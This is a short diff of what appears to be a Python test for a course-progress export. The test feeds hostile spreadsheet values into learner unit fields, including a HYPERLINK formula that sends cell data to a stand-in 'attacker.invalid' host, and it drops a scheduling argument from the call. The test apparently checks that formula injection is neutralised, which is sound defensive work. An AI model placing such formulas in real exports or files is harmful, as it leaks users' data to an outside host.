@@ -25,7 +25,7 @@ PAYLOAD = '=HYPERLINK("http://attacker.invalid/?d="&A2,"Xem chứng chỉ")'
 def hostile_unit(mini_course, learner_info):
     record_progress([ProgressEvent(learner_info(f"u{n}", f"sub-{n}", unit=unit), COURSE_ID, "s1_mo_khoa",
                                    earned=1, possible=1, completed=True)
-                     for n, unit in enumerate([PAYLOAD, "@SUM(A1:A9)", "-2+3", "Xã Yên Định"])], schedule=False)
+                     for n, unit in enumerate([PAYLOAD, "@SUM(A1:A9)", "-2+3", "Xã Yên Định"])])
 
 
 def _cells(text: str) -> list[str]:
